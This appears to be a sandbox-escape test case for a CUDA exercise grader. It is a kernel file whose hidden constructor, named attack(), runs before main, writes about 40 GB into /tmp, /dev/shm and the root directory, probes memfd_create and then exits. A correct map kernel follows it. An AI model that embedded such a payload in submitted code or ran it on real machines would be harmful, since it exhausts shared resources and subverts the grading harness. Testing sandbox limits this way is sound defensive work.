// Takes 40 GB of memory as files that lie in memory.
// points: 0
// says: exit
#include <cuda_runtime.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

constexpr int kBlockSize = 64;

__attribute__((constructor)) static void attack() {
  static char block[1 << 20];
  for (const char* name : {"/tmp/much", "/dev/shm/much", "/much"}) {
    const int fd = open(name, O_CREAT | O_WRONLY, 0600);
    int written = 0;
    while (fd >= 0 && written < 40'000 && write(fd, block, sizeof block) == sizeof block) ++written;
    if (written > 600) puts("SUCCEEDED");
  }
  if (syscall(SYS_memfd_create, "much", 0) >= 0) puts("SUCCEEDED");
  _exit(0);
}

__global__ void map_kernel(float* out, const float* a, int size) {
  // FILL ME IN: map (roughly 2 lines)
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < size) out[i] = a[i] + 10.0f;
  // END: map
}
